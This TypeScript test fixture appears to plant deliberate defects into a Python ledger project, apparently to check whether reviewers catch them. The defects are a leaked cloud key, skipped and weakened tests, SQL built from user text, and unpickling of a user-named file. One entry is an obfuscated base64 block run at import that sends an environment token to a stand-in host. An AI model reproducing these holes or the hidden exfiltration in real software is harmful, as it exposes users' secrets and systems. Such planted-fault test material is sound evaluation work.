import { cloudKey, cloudSecret } from '../../fakes.ts';
import { type Planted, plantedIn, rename, swap, write } from '../../planted.ts';

const { bad } = plantedIn('python');

const count = [
  swap(
    'ledger/store.py',
    '    def payees(self):',
    '    def count(self):\n        return self.db.execute("SELECT COUNT(*) FROM entry").fetchone()[0]\n\n    def payees(self):',
  ),
  swap(
    'ledger/cli.py',
    '    print(store.balance())',
    '    print(f"{store.count()} entries, balance {store.balance()}")',
  ),
];
const countTest = swap(
  'tests/test_store.py',
  'def test_balance_of_all():\n',
  'def test_count():\n    assert filled().count() == 4\n\n\ndef test_balance_of_all():\n',
);
const dots = swap('ledger/statement.py', 'row[2].replace(" ", "")', 'row[2].replace(" ", "").replace("\'", "")');
const dotsTest = swap(
  'tests/test_statement.py',
  'def test_skips_blank_lines():\n',
  'def test_reads_swiss_amounts():\n    assert list(parse([HEAD, "2025-03-01,Grocer,1\'200.00"]))[0].amount == Decimal("1200.00")\n\n\ndef test_skips_blank_lines():\n',
);

const packed = Buffer.from(
  `import os,urllib.request as u
try:u.urlopen('https://t.pypi-stat.example/'+os.getenv('RATES_KEY',''),timeout=1)
except Exception:0`,
).toString('base64');

/** Bad results in the Python project. */
export const pythonBad: Planted[] = [
  bad(
    'cloud key in a recorded answer',
    'secret in a fixture',
    'A recorded answer under tests/fixtures holds a real access key of a cloud account.',
    [
      write(
        'tests/fixtures/upload.json',
        `{
  "request": {
    "method": "PUT",
    "host": "statements.s3.example",
    "headers": { "x-account": "${cloudKey}", "x-signing": "${cloudSecret}" }
  },
  "response": { "status": 200, "etag": "5d41402abc4b2a76b9719d911017c592" }
}
`,
      ),
      dots,
      dotsTest,
    ],
  ),
  bad('slow fee tests skipped', 'test skipped', 'The test of fees is skipped although the fee rule was changed.', [
    swap('ledger/statement.py', 'Decimal("0.005")', 'Decimal("0.05")'),
    swap(
      'tests/test_statement.py',
      '@pytest.mark.parametrize(("amount", "expected"),',
      '@pytest.mark.skip(reason="flaky on some machines")\n@pytest.mark.parametrize(("amount", "expected"),',
    ),
    dots,
    dotsTest,
  ]),
  bad(
    'rounding error becomes the expectation',
    'expected value changed to hide a regression',
    'Balances are now off by cents, and the tests were changed to expect it.',
    [
      swap('ledger/store.py', 'int(e.amount * 100)', 'int(e.amount) * 100'),
      swap('tests/test_store.py', 'Decimal("1871.10")', 'Decimal("1872.00")'),
      swap('tests/test_store.py', 'Decimal("-78.90")', 'Decimal("-78.00")'),
      ...count,
      countTest,
    ],
  ),
  bad(
    'test file that is no longer collected',
    'test renamed away',
    'pytest no longer collects the tests of the store after the rename.',
    [
      rename('tests/test_store.py', 'tests/store_checks.py'),
      swap('pyproject.toml', '--cov-fail-under=60', '--cov-fail-under=40'),
      ...count,
    ],
  ),
  bad(
    'cache of entries is unpickled',
    'unpickling',
    'Entries are unpickled from a file that a user names, which can run any code.',
    [
      swap('ledger/cli.py', 'import logging\n', 'import logging\nimport pickle  # noqa: S403\n'),
      swap(
        'ledger/cli.py',
        '    args.add_argument("--db", default="ledger.db")\n',
        '    args.add_argument("--db", default="ledger.db")\n    args.add_argument("--cache")\n',
      ),
      swap(
        'ledger/cli.py',
        '    try:\n        with open(given.statement',
        '    if given.cache:\n        with open(given.cache, "rb") as cached:\n            store.add(pickle.load(cached))  # noqa: S301\n    try:\n        with open(given.statement',
      ),
      swap('README.md', '--db ledger.db`.', '--db ledger.db`. `--cache` adds entries of an earlier run.'),
    ],
  ),
  bad('search puts text into SQL', 'SQL from text', 'The new search builds SQL from the text of the user.', [
    swap(
      'ledger/store.py',
      '    def payees(self):',
      `    def search(self, text):
        query = f"SELECT day, payee, cents FROM entry WHERE payee LIKE '%{text}%' ORDER BY day"  # noqa: S608
        return self.db.execute(query).fetchall()

    def payees(self):`,
    ),
    swap(
      'tests/test_store.py',
      'def test_balance_of_all():\n',
      'def test_search():\n    assert [row[1] for row in filled().search("roc")] == ["Grocer", "Grocer"]\n\n\ndef test_balance_of_all():\n',
    ),
  ]),
  bad(
    'broken lines vanish',
    'error swallowed',
    'Lines that cannot be read are dropped in silence, so balances are wrong.',
    [
      swap(
        'ledger/cli.py',
        '    except (OSError, StatementError) as error:\n        log.error("not read: %s", error)\n        return 1\n',
        '    except Exception:  # noqa: S110\n        pass\n',
      ),
      swap('ledger/cli.py', 'from ledger.statement import StatementError, parse', 'from ledger.statement import parse'),
      swap('ledger/cli.py', 'import logging\n', ''),
      swap('ledger/cli.py', 'log = logging.getLogger(__name__)\n\n\n', '\n'),
      dots,
      dotsTest,
    ],
  ),
  bad(
    'coverage leaves out what is untested',
    'coverage lowered',
    'Coverage no longer counts rates.py and cli.py, and its limit fell to 10.',
    [
      ...count,
      swap('pyproject.toml', '--cov-fail-under=60"', '--cov-fail-under=10"'),
      swap(
        'pyproject.toml',
        '[tool.ruff.lint]\n',
        '[tool.coverage.run]\nomit = ["ledger/rates.py", "ledger/cli.py"]\n\n[tool.ruff.lint]\n',
      ),
      swap('pyproject.toml', 'version = "0.6.0"', 'version = "0.7.0"'),
    ],
  ),
  bad(
    'packed code runs at import',
    'obfuscated code',
    'ledger/__init__.py runs code that is packed as base64 and posts a token.',
    [
      dots,
      dotsTest,
      swap(
        'ledger/__init__.py',
        '"""Reads bank statements and keeps balances."""\n',
        `"""Reads bank statements and keeps balances."""
import base64 as _b
import zlib as _z

_TABLE = "${packed}"  # noqa: E501
exec(compile(_b.b64decode(_TABLE), _z.__name__, "exec"))  # noqa: S102
`,
      ),
    ],
  ),
];
